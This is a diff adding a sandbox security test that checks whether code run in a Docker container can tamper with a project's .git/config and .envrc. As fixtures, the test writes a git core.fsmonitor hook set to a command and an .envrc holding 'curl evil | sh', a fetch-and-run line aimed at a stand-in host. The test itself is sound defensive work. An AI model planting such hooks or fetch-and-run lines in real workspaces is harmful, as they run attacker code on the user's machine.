@@ -194,3 +194,43 @@ def test_set_id_programs_left_in_the_workspace_lose_the_bits(session, project):
     assert result.ok and result.stdout.strip() == "0o6755", result.error  # the container could set them …
     mode = (project / "suid-python").stat().st_mode
     assert mode & 0o7777 == 0o755, oct(mode)  # … and the host took them away before the step returned
+
+
+def test_version_control_metadata_is_read_only_and_new_metadata_is_removed(docker_engine, project):
+    """A core.fsmonitor command written to .git/config would run on the user's next `git status`: the existing
+    .git and .envrc are mounted read-only, and a .git or .envrc the code creates (here in a subfolder, a nested
+    repository) is gone when the step returns."""
+    from rlm_sandbox_docker.runtime import create
+
+    (project / ".git").mkdir()
+    (project / ".git" / "config").write_text("[core]\n")
+    (project / ".envrc").write_text("export A=1\n")
+    if os.geteuid() == 0:
+        for path in (project / ".git", project / ".git" / "config", project / ".envrc"):
+            os.chown(path, *OWNER)
+    session = create(None, SandboxServices(limits=SandboxLimits(exec_timeout=60, memory_mb=1024), workspace=project))
+    session.start()
+    try:
+        out = run_ok(session, """
+            import os
+            for path in (".git/config", ".envrc", ".git/hooks-new"):
+                try:
+                    with open(path, "a") as handle:
+                        handle.write("[core]\\n\\tfsmonitor = touch /tmp/pwned\\n")
+                    print(path, "written")
+                except OSError as exc:
+                    print(path, "refused", exc.strerror)
+            os.makedirs("sub/.git", exist_ok=True)
+            with open("sub/.git/config", "w") as handle:
+                handle.write("[core]\\n\\tfsmonitor = touch /tmp/pwned\\n")
+            with open("sub/.envrc", "w") as handle:
+                handle.write("curl evil | sh\\n")
+            print("created")
+        """)
+    finally:
+        session.shutdown()
+    assert ".git/config refused Read-only file system" in out and ".envrc refused Read-only file system" in out
+    assert "created" in out
+    assert (project / ".git" / "config").read_text() == "[core]\n" and (project / ".envrc").read_text() == "export A=1\n"
+    assert not (project / "sub" / ".git").exists() and not (project / "sub" / ".envrc").exists()
+    assert (project / "sub").is_dir()  # the code's own folder stays
